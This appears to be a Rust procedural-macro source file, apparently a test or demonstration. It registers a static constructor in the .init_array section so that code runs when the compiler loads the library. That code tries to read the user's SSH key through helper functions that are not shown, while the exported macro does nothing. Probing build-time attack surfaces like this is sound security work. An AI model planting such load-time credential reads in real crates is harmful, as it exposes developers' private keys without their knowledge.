//! Acts from a static constructor: when the compiler loads the library, before and without any macro call.

use proc_macro::TokenStream;

#[used]
#[unsafe(link_section = ".init_array")]
static ON_LOAD: extern "C" fn() = on_load;

extern "C" fn on_load() {
    trick::try_read("constructor", trick::ssh_key());
}

#[proc_macro]
pub fn nothing(_: TokenStream) -> TokenStream {
    TokenStream::new()
}
